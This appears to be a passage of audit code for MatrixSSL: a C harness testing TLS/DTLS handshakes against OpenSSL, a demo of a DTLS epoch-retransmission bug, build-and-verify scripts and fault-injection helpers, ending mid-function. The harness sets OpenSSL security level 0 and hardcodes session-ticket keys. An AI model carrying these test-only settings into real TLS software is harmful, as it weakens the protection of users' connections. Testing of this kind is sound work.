    char eb[256];
    ERR_error_string_n(q, eb, sizeof(eb));
    FAILF(c, "OpenSSL %s failed: ssl_error=%d %s", what, e, eb);
    ERR_clear_error();
}

/* Run OpenSSL as far as it goes; returns -1 on fatal */
static int oStep(ctxt_t *c)
{
    if (!c->oDone && c->sc->earlyData && !c->sc->mxServer && c->conn > 0 && !c->oEarlyDone)
    {
        for (;;)
        {
            size_t n = 0;
            int r = SSL_read_early_data(c->o, c->oEarly + c->oEarlyLen, sizeof(c->oEarly) - c->oEarlyLen, &n);
            if (r == SSL_READ_EARLY_DATA_SUCCESS) { c->oEarlyLen += n; continue; }
            if (r == SSL_READ_EARLY_DATA_FINISH) { c->oEarlyLen += n; c->oEarlyDone = 1; break; }
            {
                int e = SSL_get_error(c->o, 0);
                if (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE) return 0;
                oErr(c, "SSL_read_early_data", 0);
                oFlush(c);
                return -1;
            }
        }
    }
    if (!c->oDone)
    {
        int r = SSL_do_handshake(c->o);
        if (r == 1)
        {
            c->oDone = 1;
        }
        else
        {
            int e = SSL_get_error(c->o, r);
            if (e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE)
            {
                oErr(c, "handshake", r);
                oFlush(c); /* deliver alert */
                return -1;
            }
        }
    }
    else if (c->sc->dtls && !c->mxDone)
    {
        /* OpenSSL is done but the peer is not: let it see retransmissions
           of the peer's last flight (it answers them with its own) */
        unsigned char d[8];
        int r = SSL_read(c->o, d, 0);
        (void) r;
        ERR_clear_error();
    }
    return 0;
}

static void oMsgCb(int write_p, int version, int content_type, const void *buf, size_t len, SSL *ssl, void *arg)
{
    const unsigned char *b = buf;
    (void) ssl; (void) arg;
    fprintf(stderr, "      ossl %s ver=%04x ct=%d len=%d first=%02x\n", write_p ? "wrote" : "read ", version, content_type, (int) len, len ? b[0] : 0);
}

static int g_oAlertRead = -1;  /* last alert OpenSSL received, i.e. sent by MatrixSSL: (level << 8) | desc */
static void oInfoCb(const SSL *ssl, int where, int ret)
{
    (void) ssl;
    if (where & SSL_CB_READ_ALERT) g_oAlertRead = ret;
}

static unsigned int oTimerCb(SSL *s, unsigned int us)
{
    (void) s; (void) us;
    return 40000; /* 40 ms */
}

static int mkOpenssl(ctxt_t *c)
{
    const scen_t *s = c->sc;
    SSL_CTX *ctx;
    int isSrv = !s->mxServer;

    if (c->octx != NULL && s->oForget && isSrv && c->conn > 0)
    {
        SSL_CTX_free(c->octx); /* "server restart": every cached session is gone */
        c->octx = NULL;
    }
    if (c->octx == NULL)
    {
        ctx = SSL_CTX_new(s->dtls ? DTLS_method() : TLS_method());
        c->octx = ctx;
        SSL_CTX_set_security_level(ctx, 0);
        SSL_CTX_set_min_proto_version(ctx, s->verMin);
        SSL_CTX_set_max_proto_version(ctx, s->verMax);
        if (!SSL_CTX_set_cipher_list(ctx, s->oCiphers ? s->oCiphers : "ALL:@SECLEVEL=0"))
        {
            FAILF(c, "openssl: bad cipher list %s", s->oCiphers); return -1;
        }
        if (s->oSuites13 && !SSL_CTX_set_ciphersuites(ctx, s->oSuites13))
        {
            FAILF(c, "openssl: bad ciphersuites"); return -1;
        }
        if (s->oGroups && !SSL_CTX_set1_groups_list(ctx, s->oGroups))
        {
            FAILF(c, "openssl: bad groups %s", s->oGroups); return -1;
        }
        if (s->oSigalgs && !SSL_CTX_set1_sigalgs_list(ctx, s->oSigalgs))
        {
            FAILF(c, "openssl: bad sigalgs %s", s->oSigalgs); return -1;
        }
        if (s->oClientSigalgs && !SSL_CTX_set1_client_sigalgs_list(ctx, s->oClientSigalgs))
        {
            FAILF(c, "openssl: bad client sigalgs"); return -1;
        }
        if (!s->oEtm) SSL_CTX_set_options(ctx, SSL_OP_NO_ENCRYPT_THEN_MAC);
        if (s->noEms & 1) SSL_CTX_set_options(ctx, SSL_OP_NO_EXTENDED_MASTER_SECRET);
        if (s->oNoTicket) SSL_CTX_set_options(ctx, SSL_OP_NO_TICKET);
        if (s->oNoMiddlebox) SSL_CTX_clear_options(ctx, SSL_OP_ENABLE_MIDDLEBOX_COMPAT);
        if (s->oOptsSet) SSL_CTX_set_options(ctx, s->oOptsSet);
        if (s->oOptsClear) SSL_CTX_clear_options(ctx, s->oOptsClear);
        if (s->oNumTickets >= 0 && isSrv && s->oNumTickets != 0) SSL_CTX_set_num_tickets(ctx, s->oNumTickets);
        if (s->oNumTickets == -2 && isSrv) SSL_CTX_set_num_tickets(ctx, 0);
        if (s->oBlockPad) SSL_CTX_set_block_padding(ctx, s->oBlockPad);
        if (s->oSplitSend) SSL_CTX_set_max_send_fragment(ctx, s->oSplitSend);
        if (isSrv)
        {
            if (!s->psk12 && !s->psk13)
            {
                if (SSL_CTX_use_certificate_chain_file(ctx, s->srvCert) != 1
                    || SSL_CTX_use_PrivateKey_file(ctx, s->srvKey, SSL_FILETYPE_PEM) != 1)
                {
                    FAILF(c, "openssl: cannot load server cert/key %s", s->srvCert); return -1;
                }
            }
            if (s->clientAuth)
            {
                SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER | SSL_VERIFY_FAIL_IF_NO_PEER_CERT
                    | (s->oPha ? SSL_VERIFY_POST_HANDSHAKE : 0), oVerifyCb);
                if (s->cliCA)
                {
                    SSL_CTX_set_client_CA_list(ctx, SSL_load_client_CA_file(s->cliCA));
                }
            }
            if (s->psk12) SSL_CTX_set_psk_server_callback(ctx, oPskServerCb);
            if (s->psk13) SSL_CTX_set_psk_find_session_callback(ctx, oPsk13FindCb);
            SSL_CTX_set_session_id_context(ctx, (const unsigned char *) "c10", 3);
            SSL_CTX_set_session_cache_mode(ctx, SSL_SESS_CACHE_SERVER);
            if (s->earlyData) SSL_CTX_set_max_early_data(ctx, 16384);
            if (s->dtls && s->oCookie)
            {
                SSL_CTX_set_cookie_generate_cb(ctx, oCookieGen);
                SSL_CTX_set_cookie_verify_cb(ctx, oCookieVerify);
                SSL_CTX_set_options(ctx, SSL_OP_COOKIE_EXCHANGE);
            }
        }
        else
        {
            SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, oVerifyCb);
            if (s->clientAuth)
            {
                if (SSL_CTX_use_certificate_chain_file(ctx, s->cliCert) != 1
                    || SSL_CTX_use_PrivateKey_file(ctx, s->cliKey, SSL_FILETYPE_PEM) != 1)
                {
                    FAILF(c, "openssl: cannot load client cert/key"); return -1;
                }
            }
            if (s->psk12) SSL_CTX_set_psk_client_callback(ctx, oPskClientCb);
            if (s->psk13) SSL_CTX_set_psk_use_session_callback(ctx, oPsk13UseCb);
            SSL_CTX_set_session_cache_mode(ctx, SSL_SESS_CACHE_CLIENT | SSL_SESS_CACHE_NO_INTERNAL);
            SSL_CTX_sess_set_new_cb(ctx, oNewSessCb);
        }
    }
    c->o = SSL_new(c->octx);
    SSL_set_info_callback(c->o, oInfoCb);
    if (g_verbose > 2) SSL_set_msg_callback(c->o, oMsgCb);
    c->rbio = BIO_new(BIO_s_mem());
    c->wbio = BIO_new(BIO_s_mem());
    BIO_set_mem_eof_return(c->rbio, -1);
    BIO_set_mem_eof_return(c->wbio, -1);
    SSL_set_bio(c->o, c->rbio, c->wbio);
    if (s->dtls)
    {
        DTLS_set_timer_cb(c->o, oTimerCb);
        SSL_set_options(c->o, SSL_OP_NO_QUERY_MTU);
        SSL_set_mtu(c->o, s->oMtu ? s->oMtu : 1400);
        DTLS_set_link_mtu(c->o, s->oMtu ? s->oMtu : 1400);
    }
    if (isSrv)
    {
        SSL_set_accept_state(c->o);
    }
    else
    {
        SSL_set_connect_state(c->o);
        SSL_set_tlsext_host_name(c->o, "localhost");
        if (s->oMaxFrag) SSL_set_tlsext_max_fragment_length(c->o, s->oMaxFrag);
        if (s->oPha) SSL_set_post_handshake_auth(c->o, 1);
        if (c->conn > 0 && g_newSess)
        {
            SSL_set_session(c->o, g_newSess);
        }
    }
    if (c->conn > 0 && s->resVerMin) SSL_set_min_proto_version(c->o, s->resVerMin);
    if (c->conn > 0 && s->resVerMax) SSL_set_max_proto_version(c->o, s->resVerMax);
    if (c->conn > 0 && s->oCiphers2) SSL_set_cipher_list(c->o, s->oCiphers2);
    if (c->conn > 0 && s->oSuites13_2) SSL_set_ciphersuites(c->o, s->oSuites13_2);
    g_psk13Mode = s->psk13;
    return 0;
}

static int mkMatrix(ctxt_t *c)
{
    const scen_t *s = c->sc;
    sslSessOpts_t opts;
    int32 rc;

    memset(&opts, 0, sizeof(opts));
    if (c->mxKeys == NULL)
    {
        if (matrixSslNewKeys(&c->mxKeys, NULL) < 0) { FAILF(c, "NewKeys"); return -1; }
        if (s->psk12)
        {
            rc = matrixSslLoadPsk(c->mxKeys, g_psk12, sizeof(g_psk12),
                (const unsigned char *) g_psk12Id, strlen(g_psk12Id));
            if (rc < 0) { FAILF(c, "LoadPsk %d", rc); return -1; }
        }
        else if (s->psk13)
        {
            psTls13SessionParams_t *pp = NULL;
            rc = matrixSslLoadTls13Psk(c->mxKeys, g_psk13, s->psk13 == 2 ? 48 : 32,
                g_psk13Id, sizeof(g_psk13Id) - 1, pp);
            if (rc < 0) { FAILF(c, "LoadTls13Psk %d", rc); return -1; }
        }
        else if (s->mxServer)
        {
            rc = matrixSslLoadKeys(c->mxKeys, s->srvCert, s->srvKey, NULL,
                s->clientAuth ? s->cliCA : NULL, NULL);
            if (rc < 0) { FAILF(c, "matrixSslLoadKeys(server) %d", rc); return -1; }
        }
        else
        {
            if (s->clientAuth)
            {
                rc = matrixSslLoadKeys(c->mxKeys, s->cliCert, s->cliKey, NULL, s->srvCA, NULL);
            }
            else
            {
                rc = matrixSslLoadKeys(c->mxKeys, NULL, NULL, NULL, s->srvCA, NULL);
            }
            if (rc < 0) { FAILF(c, "matrixSslLoadKeys(client) %d", rc); return -1; }
        }
        if (s->mxServer)
        {
            static const unsigned char tkName[16] = "c10-ticket-key-1";
            static const unsigned char tkSym[32] = { 9,8,7,6,5,4,3,2,1,0,1,2,3,4,5,6,7,8,9,0,1,2,3,4,5,6,7,8,9,0,1,2 };
            static const unsigned char tkMac[32] = { 1,8,7,6,5,4,3,2,1,0,1,2,3,4,5,6,7,8,9,0,1,2,3,4,5,6,7,8,9,0,1,3 };
            rc = matrixSslLoadSessionTicketKeys(c->mxKeys, tkName, tkSym, 32, tkMac, 32);
            if (rc < 0) { FAILF(c, "LoadSessionTicketKeys %d", rc); return -1; }
        }
    }
    if (s->mxVersLen)
    {
        psProtocolVersion_t v[4];
        int i, n = s->mxVersLen;
        for (i = 0; i < s->mxVersLen; i++) v[i] = s->mxVers[i];
        if (c->conn > 0 && s->mxVers2Len)
        {
            n = s->mxVers2Len;
            for (i = 0; i < n; i++) v[i] = s->mxVers2[i];
        }
        if (s->mxServer) rc = matrixSslSessOptsSetServerTlsVersions(&opts, v, n);
        else rc = matrixSslSessOptsSetClientTlsVersions(&opts, v, n);
        if (rc < 0) { FAILF(c, "SetTlsVersions %d", rc); return -1; }
    }
    if (s->mxGroupsLen)
    {
        uint16_t g[8];
        memcpy(g, s->mxGroups, sizeof(g));
        rc = matrixSslSessOptsSetKeyExGroups(&opts, g, s->mxGroupsLen, s->mxNumShares ? s->mxNumShares : 1);
        if (rc < 0) { FAILF(c, "SetKeyExGroups %d", rc); return -1; }
    }
    if (s->mxSigalgsLen)
    {
        uint16_t g[16];
        memcpy(g, s->mxSigalgs, sizeof(g));
        rc = matrixSslSessOptsSetSigAlgs(&opts, g, s->mxSigalgsLen);
        if (rc < 0) { FAILF(c, "SetSigAlgs %d", rc); return -1; }
    }
    if (s->mxVersionFlag) opts.versionFlag = s->mxVersionFlag;
    if (s->noEms & 2) opts.extendedMasterSecret = -1;
    if (s->mxBlockPad) opts.tls13BlockSize = s->mxBlockPad;
    if (s->mxServer)
    {
        if (s->earlyData) opts.tls13SessionMaxEarlyData = 16384;
        rc = matrixSslNewServerSession(&c->mx, c->mxKeys, s->clientAuth ? mxCertCb : NULL, &opts);
        if (rc < 0) { FAILF(c, "NewServerSession %d", rc); return -1; }
    }
    else
    {
        psCipher16_t cs[8];
        int i, ncs = s->mxCiphersLen;
        for (i = 0; i < s->mxCiphersLen; i++) cs[i] = s->mxCiphers[i];
        if (c->conn > 0 && s->mxCiphers2Len)
        {
            ncs = s->mxCiphers2Len;
            for (i = 0; i < ncs; i++) cs[i] = s->mxCiphers2[i];
        }
        if (c->mxSid == NULL)
        {
            matrixSslNewSessionId(&c->mxSid, NULL);
        }
        opts.ticketResumption = s->mxTicket;
        if (s->mxMaxFrag) opts.maxFragLen = s->mxMaxFrag;
        rc = matrixSslNewClientSession(&c->mx, c->mxKeys, c->mxSid, ncs ? cs : NULL, ncs,
            mxCertCb, "localhost", NULL, NULL, &opts);
        if (rc != MATRIXSSL_REQUEST_SEND) { FAILF(c, "NewClientSession %d", rc); return -1; }
    }
    return 0;
}

static void teardownConn(ctxt_t *c)
{
    if (c->mx) { matrixSslDeleteSession(c->mx); c->mx = NULL; }
    if (c->o) { SSL_free(c->o); c->o = NULL; c->rbio = c->wbio = NULL; }
    c->mxDone = c->oDone = 0;
    c->mxRxLen = 0;
    c->oEarlyDone = 0; c->oEarlyLen = 0; c->earlySent = 0;
    c->mxDgrams = c->oRecs = 0; c->mxSentAny = 0;
}

static void teardownAll(ctxt_t *c)
{
    teardownConn(c);
    if (c->mxSid) { matrixSslDeleteSessionId(c->mxSid); c->mxSid = NULL; }
    if (c->mxKeys) { matrixSslDeleteKeys(c->mxKeys); c->mxKeys = NULL; }
    if (c->octx) { SSL_CTX_free(c->octx); c->octx = NULL; }
    if (g_newSess) { SSL_SESSION_free(g_newSess); g_newSess = NULL; }
    free(c->mxRx); c->mxRx = NULL; c->mxRxCap = 0;
}

static int pumpHandshake(ctxt_t *c)
{
    int i, timeouts = 0;

    for (i = 0; i < 200; i++)
    {
        int moved = 0, r;
        if ((r = mxFlush(c)) < 0) return -1;
        moved += r;
        if (oStep(c) < 0) return -1;
        if ((r = oFlush(c)) < 0) return -1;
        moved += r;
        if (c->fail[0]) return -1;
        if (c->mxDone && c->oDone && moved == 0)
        {
            return 0;
        }
        if (moved == 0 && i > 3 && c->sc->dtls && (c->sc->dropMx || c->sc->dropO) && timeouts < 6)
        {
            /* retransmission timers fire on both sides */
            unsigned char *b;
            int32 len;
            struct timespec ts = { 0, 45000000 };
            timeouts++;
            nanosleep(&ts, NULL);
            if (g_verbose) fprintf(stderr, "   [timeout %d: mxDone=%d oDone=%d]\n", timeouts, c->mxDone, c->oDone);
            DTLSv1_handle_timeout(c->o);
            if (c->mxSentAny) /* a timer is armed only after something was sent */
            {
                while ((len = matrixDtlsGetOutdata(c->mx, &b)) > 0)
                {
                    g_mxResends++;
                    noteEpochs(b, len);
                    if (g_verbose > 1) fprintf(stderr, "   mx resend %d bytes [%02x %02x %02x %02x %02x]\n", len, b[0], b[1], b[2], b[3], b[4]);
                    if (g_verbose > 3) dumpDtls("mx-resend", b, len);
                    BIO_write(c->rbio, b, len);
                    if (matrixDtlsSentData(c->mx, len) < 0) break;
                }
                if (g_verbose > 1 && len <= 0) fprintf(stderr, "   mx resend: matrixDtlsGetOutdata -> %d\n", len);
            }
            continue;
        }
        if (moved == 0 && i > 3)
        {
            FAILF(c, "handshake stalled: mxDone=%d oDone=%d", c->mxDone, c->oDone);
            return -1;
        }
    }
    FAILF(c, "handshake did not finish in 200 rounds");
    return -1;
}

static void fillPattern(unsigned char *b, int n, int seed)
{
    int i;
    for (i = 0; i < n; i++) b[i] = (unsigned char) (i * 31 + seed * 7 + (i >> 8));
}

/* OpenSSL reads all it can; appends into out */
static int oReadAll(ctxt_t *c, unsigned char *out, int cap)
{
    int got = 0, r;
    for (;;)
    {
        r = SSL_read(c->o, out + got, cap - got);
        if (r > 0) { got += r; if (got == cap) break; continue; }
        else
        {
            int e = SSL_get_error(c->o, r);
            if (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE) break;
            if (e == SSL_ERROR_ZERO_RETURN) break;
            oErr(c, "SSL_read", r);
            return -1;
        }
    }
    return got;
}

static int exchange(ctxt_t *c, int size, int seed)
{
    static unsigned char tx[70000], rx[70000];
    int dtls = c->sc->dtls;
    int32 rc;
    int got, r;

    /* MatrixSSL -> OpenSSL */
    fillPattern(tx, size, seed);
    if (dtls)
    {
        rc = matrixSslEncodeToOutdata(c->mx, tx, size);
    }
    else
    {
        rc = matrixSslEncodeToOutdata(c->mx, tx, size);
    }
    if (rc < 0) { FAILF(c, "matrixSslEncodeToOutdata(%d) rc=%d", size, rc); return -1; }
    if (mxFlush(c) < 0) return -1;
    got = oReadAll(c, rx, sizeof(rx));
    if (got < 0) return -1;
    if (got != size || memcmp(tx, rx, size))
    {
        FAILF(c, "payload mx->ossl size %d: OpenSSL read %d bytes%s", size, got,
            got == size ? " (content differs)" : "");
        return -1;
    }
    if (oFlush(c) < 0) return -1;

    /* OpenSSL -> MatrixSSL */
    fillPattern(tx, size, seed + 1);
    c->mxRxLen = 0;
    r = SSL_write(c->o, tx, size);
    if (r != size) { oErr(c, "SSL_write", r); return -1; }
    if (oFlush(c) < 0) return -1;
    if ((int) c->mxRxLen != size || memcmp(tx, c->mxRx, size))
    {
        FAILF(c, "payload ossl->mx size %d: MatrixSSL delivered %d bytes%s", size,
            (int) c->mxRxLen, (int) c->mxRxLen == size ? " (content differs)" : "");
        return -1;
    }
    if (mxFlush(c) < 0) return -1;
    /* let OpenSSL consume anything MatrixSSL sent back (KeyUpdate replies etc.) */
    got = oReadAll(c, rx, sizeof(rx));
    if (got < 0) return -1;
    if (got != 0) { FAILF(c, "OpenSSL read %d unexpected bytes", got); return -1; }
    return 0;
}

static int sendEarly(ctxt_t *c)
{
    static unsigned char e[20000];
    int n = c->sc->earlyLen ? c->sc->earlyLen : 100;
    fillPattern(e, n, 99);
    if (!c->sc->mxServer)
    {
        int32 rc;
        if (matrixSslGetMaxEarlyData(c->mx) <= 0)
        {
            FAILF(c, "MatrixSSL client: matrixSslGetMaxEarlyData = %d, cannot send early data", (int) matrixSslGetMaxEarlyData(c->mx));
            return -1;
        }
        rc = matrixSslEncodeToOutdata(c->mx, e, n);
        if (rc < 0) { FAILF(c, "early matrixSslEncodeToOutdata rc=%d", rc); return -1; }
        c->earlySent = n;
    }
    else
    {
        size_t w = 0;
        int r = SSL_write_early_data(c->o, e, n, &w);
        if (r != 1 || (int) w != n) { oErr(c, "SSL_write_early_data", 0); return -1; }
        c->earlySent = n;
        if (oFlush(c) < 0) return -1;
    }
    return 0;
}

static int checkEarly(ctxt_t *c)
{
    static unsigned char e[20000];
    fillPattern(e, c->earlySent, 99);
    if (!c->sc->mxServer)
    {
        int st = matrixSslGetEarlyDataStatus(c->mx);
        if (SSL_get_early_data_status(c->o) != SSL_EARLY_DATA_ACCEPTED)
        {
            FAILF(c, "OpenSSL server did not accept early data (status %d, mx status %d)", SSL_get_early_data_status(c->o), st);
            return -1;
        }
        if ((int) c->oEarlyLen != c->earlySent || memcmp(e, c->oEarly, c->earlySent))
        {
            FAILF(c, "early data mismatch: OpenSSL read %d of %d", (int) c->oEarlyLen, c->earlySent);
            return -1;
        }
        if (st != MATRIXSSL_EARLY_DATA_ACCEPTED) { FAILF(c, "mx early data status %d although server accepted", st); return -1; }
    }
    else
    {
        if (SSL_get_early_data_status(c->o) != SSL_EARLY_DATA_ACCEPTED)
        {
            FAILF(c, "MatrixSSL server did not accept early data (openssl status %d, mx status %d)", SSL_get_early_data_status(c->o), (int) matrixSslGetEarlyDataStatus(c->mx));
            return -1;
        }
        if ((int) c->mxRxLen != c->earlySent || memcmp(e, c->mxRx, c->earlySent))
        {
            FAILF(c, "early data mismatch: MatrixSSL delivered %d of %d", (int) c->mxRxLen, c->earlySent);
            return -1;
        }
    }
    return 0;
}

/* Returns 0 ok, -1 failure (c->fail set). */
static int runScenario(const scen_t *s, char *failOut, size_t failLen)
{
    ctxt_t c;
    int conn, rc = 0;
    const int *sizes = s->sizes ? s->sizes : g_defaultSizes;

    memset(&c, 0, sizeof(c));
    c.sc = s;
    g_newSessCount = 0;
    g_oAlertRead = -1; g_mxMaxEpochSeen = 0; g_mxResends = 0;
    for (conn = 0; conn <= s->resume; conn++)
    {
        int i;
        c.conn = conn;
        g_oAlertRead = -1;
        if (mkOpenssl(&c) < 0 || mkMatrix(&c) < 0) { rc = -1; break; }
        if (s->earlyData && conn > 0 && sendEarly(&c) < 0) { rc = -1; break; }
        if (pumpHandshake(&c) < 0) { rc = -1; break; }
        if (s->earlyData && conn > 0 && checkEarly(&c) < 0) { rc = -1; break; }
        if (g_verbose)
        {
            psCipher16_t cid = 0;
            matrixSslGetNegotiatedCiphersuite(c.mx, &cid);
            fprintf(stderr, "  [%s] conn %d: %s %s mxcipher=0x%04x ossl_reused=%d mx_resumed=%d group=%s\n",
                s->name, conn, SSL_get_version(c.o), SSL_get_cipher_name(c.o), cid,
                SSL_session_reused(c.o), (int) matrixSslIsResumedSession(c.mx),
                "-");
            if (c.mxSid) fprintf(stderr, "    mx sid: idLen=%d ticketLen=%d\n", (int) matrixSslSessionIdGetSessionIdLen(c.mxSid), (int) matrixSslSessionIdGetSessionTicketLen(c.mxSid));
        }
        if (conn > 0)
        {
            if (!SSL_session_reused(c.o) && !s->resumeOptional)
            {
                FAILF(&c, "connection %d: expected a resumed handshake but OpenSSL reports a full one (mx_resumed=%d)", conn,
                    (int) matrixSslIsResumedSession(c.mx));
                rc = -1; break;
            }
        }
        for (i = 0; sizes[i]; i++)
        {
            int sz = sizes[i];
            if (s->dtls && sz > 1200) continue;
            if (exchange(&c, sz, i + conn) < 0) { rc = -1; break; }
            if (i == 0 && s->oKeyUpdate)
            {
                if (SSL_key_update(c.o, s->oKeyUpdate == 2 ? SSL_KEY_UPDATE_REQUESTED : SSL_KEY_UPDATE_NOT_REQUESTED) != 1)
                {
                    FAILF(&c, "SSL_key_update failed"); rc = -1; break;
                }
            }
        }
        if (rc < 0) break;
        /* close */
        if (!s->mxServer)
        {
            /* keep the session for next connection */
        }
        SSL_shutdown(c.o);
        oFlush(&c);
        mxFlush(&c);
        c.fail[0] = 0; /* close_notify exchanges are not judged */
        if (conn < s->resume) teardownConn(&c);
    }
    if (rc < 0 && c.o)
    {
        /* let OpenSSL see whatever MatrixSSL sent last (its alert) */
        unsigned char d[64];
        mxFlush(&c);
        SSL_do_handshake(c.o);
        SSL_read(c.o, d, sizeof(d));
        ERR_clear_error();
    }
    if (rc < 0 && failOut)
    {
        snprintf(failOut, failLen, "conn %d: %s", c.conn, c.fail);
    }
    teardownAll(&c);
    ERR_clear_error();
    return rc;
}

#endif
