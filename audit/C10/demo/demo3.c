/*
 * demo3 - a DTLS flight that contains ChangeCipherSpec is retransmitted under a NEW epoch.
 *
 * RFC 6347 4.1: the epoch is incremented on every cipher state change; 4.2.4: a retransmission
 * re-sends the same flight (new record sequence numbers, same epoch).  MatrixSSL re-encrypts the
 * retransmitted Finished under epoch 2, 3, 4 ... with the keys of epoch 1.  A peer that lost the
 * first transmission expects epoch 1 and discards the record, so the loss of MatrixSSL's
 * CCS+Finished flight is unrecoverable; if the peer did get the first Finished, MatrixSSL's
 * application data (sent under the advanced epoch) is discarded instead.
 *
 * Peer: OpenSSL DTLS 1.2.  One datagram is dropped once, then retransmission timers fire on
 * both sides (OpenSSL: DTLSv1_handle_timeout, MatrixSSL: matrixDtlsGetOutdata on an empty outbuf).
 */
#include "demo_common.h"

int main(void)
{
    char why[600];
    int rcControl, rcCli, rcSrv, epCli, epSrv, nCli, nSrv;
    scen_t control = { .name = "control: DTLS 1.2, nothing lost",
        .mxServer = 0, .dtls = 1, .verMin = DTLS1_2_VERSION, .verMax = DTLS1_2_VERSION,
        .mxVersionFlag = SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2,
        .srvCert = RSA_CERT, .srvKey = RSA_KEY, .srvCA = RSA_CA,
        .oOptsSet = SSL_OP_LEGACY_SERVER_CONNECT, .oNumTickets = -1 };
    scen_t cli = control, srv = control;
    cli.name = "MatrixSSL client: its datagram #2 (CKE,CCS,Finished) lost once";
    cli.dropMx = 2;
    srv.name = "MatrixSSL server: its datagram #4 (CCS,Finished) lost once";
    srv.mxServer = 1; srv.dropMx = 4;

    if (matrixSslOpen() < 0) return 2;
    printf("MatrixSSL <-> OpenSSL %s over DTLS 1.2, one datagram of MatrixSSL's last flight dropped once:\n",
        OpenSSL_version(OPENSSL_VERSION_STRING));
    rcControl = run(&control, why, sizeof(why));
    rcCli = run(&cli, why, sizeof(why));
    epCli = g_mxMaxEpochSeen; nCli = g_mxResends;
    rcSrv = run(&srv, why, sizeof(why));
    epSrv = g_mxMaxEpochSeen; nSrv = g_mxResends;
    matrixSslClose();
    if (rcControl != 0)
    {
        printf("control failed: harness problem\n");
        return 2;
    }
    printf("  highest epoch MatrixSSL wrote during the handshake: client %d after %d retransmissions, "
           "server %d after %d retransmissions (RFC 6347: 1)\n", epCli, nCli, epSrv, nSrv);
    if (rcCli != 0 || rcSrv != 0 || epCli > 1 || epSrv > 1)
    {
        printf("VIOLATION: MatrixSSL retransmits its ChangeCipherSpec flight under a new epoch each time "
               "(up to epoch %d seen); the OpenSSL peer expects epoch 1, discards the Finished and the "
               "handshake never completes after a single lost datagram\n", epCli > epSrv ? epCli : epSrv);
        return 1;
    }
    printf("OK: no violation observed\n");
    return 0;
}
