/* Shared by the demoN.c programs: key files and small helpers on top of interop.h */
#ifndef DEMO_COMMON_H
#define DEMO_COMMON_H
#include "interop.h"

#define RSA_CERT KEYDIR "/RSA/2048_RSA.pem"
#define RSA_KEY  KEYDIR "/RSA/2048_RSA_KEY.pem"
#define RSA_CA   KEYDIR "/RSA/2048_RSA_CA.pem"
#define RSA3_CERT KEYDIR "/RSA/3072_RSA.pem"
#define RSA3_KEY  KEYDIR "/RSA/3072_RSA_KEY.pem"
#define RSA3_CA   KEYDIR "/RSA/3072_RSA_CA.pem"

static const char *alertStr(int a)
{
    static char b[64];
    if (a < 0) return "none";
    snprintf(b, sizeof(b), "%s %d (%s)", (a >> 8) == 2 ? "fatal" : "warning", a & 0xff,
        SSL_alert_desc_string_long(a));
    return b;
}

/* run one scenario, print the result line, return 0 = completed, -1 = failed */
static int run(const scen_t *s, char *why, size_t whyLen)
{
    int rc;
    why[0] = 0;
    rc = runScenario(s, why, whyLen);
    printf("  %-62s : %s%s%s\n", s->name, rc == 0 ? "completed" : "FAILED", rc ? " - " : "", rc ? why : "");
    fflush(stdout);
    return rc;
}
#endif
