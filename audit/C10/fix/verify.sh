#!/bin/sh
# usage: verify.sh N [extra demo binaries...]  - build the (patched) tree, run demoN + the regression programs
TOP=/tmp/seed-C10
N=$1
cd $TOP && make -j4 > audit-out/fix/make$N.log 2>&1; echo "make exit $?"
cd $TOP/audit-out/demo && ./build.sh > /dev/null 2>&1; echo "demo build exit $?"
./demo$N; echo "demo$N exit $?"
shift
for x in "$@"; do ./$x > /tmp/seed-C10/audit-out/fix/$x.$N.out 2>&1; echo "$x exit $?"; done
cd $TOP/crypto/test && for t in algorithmTest eccTest rsaTest hmacTest; do ./$t > /dev/null 2>&1; echo "$t exit $?"; done
cd $TOP/matrixssl/test && ./sslTest > $TOP/audit-out/fix/sslTest$N.log 2>&1; echo "sslTest exit $?"
