#!/bin/sh
# runall.sh <binary-suffix> scen...
cd /tmp/seed-C19/audit-out/demo
export ASAN_OPTIONS=detect_leaks=1
B=$1; shift
for s in "$@"; do ./explore$B $s all > logs/$s$B.log 2>&1; done
