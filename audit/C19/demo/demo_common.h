/* Shared helpers for the C19 demos: allocation fault injection (fi.h),
   in-memory client/server plumbing, fork-per-fault runner. */
#ifndef DEMO_COMMON_H
#define DEMO_COMMON_H
#include "matrixssl/matrixsslImpl.h"
#include "fi.h"
#include <sys/wait.h>
#include <signal.h>
#include <execinfo.h>

typedef struct
{
    ssl_t *ssl;
    int done;       /* MATRIXSSL_HANDSHAKE_COMPLETE seen */
    int err;        /* an API call returned < 0 */
    int alertIn;    /* fatal alert received */
    int closed;
    long appIn;
} side_t;

static int dc_feed(side_t *to, const unsigned char *data, int len)
{
    int off = 0;
    while (off < len)
    {
        unsigned char *rb, *pt;
        uint32 ptLen;
        int32 rbLen, n, rc;
        rbLen = matrixSslGetReadbuf(to->ssl, &rb);
        if (rbLen <= 0) { to->err = rbLen ? rbLen : -1; return -1; }
        n = len - off < rbLen ? len - off : rbLen;
        memcpy(rb, data + off, n);
        off += n;
        rc = matrixSslReceivedData(to->ssl, n, &pt, &ptLen);
        for (;;)
        {
            if (rc < 0) { to->err = rc; return -1; }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) { to->done++; break; }
            if (rc == MATRIXSSL_REQUEST_CLOSE) { to->closed = 1; return 0; }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                if (pt[0] == SSL_ALERT_LEVEL_FATAL) { to->alertIn = pt[1]; to->closed = 1; return 0; }
                if (pt[1] == SSL_ALERT_CLOSE_NOTIFY) { to->closed = 1; return 0; }
                rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_APP_DATA_COMPRESSED)
            {
                to->appIn += ptLen;
                rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                continue;
            }
            break; /* REQUEST_SEND / REQUEST_RECV / SUCCESS */
        }
    }
    return 0;
}

/* Move everything 'from' wants to send into 'to'. Returns bytes moved. */
static int dc_flush(side_t *from, side_t *to)
{
    int moved = 0;
    for (;;)
    {
        unsigned char *buf, *copy;
        int32 len, rc;
        len = matrixSslGetOutdata(from->ssl, &buf);
        if (len <= 0) return moved;
        copy = __real_malloc(len);
        memcpy(copy, buf, len);
        rc = matrixSslSentData(from->ssl, len);
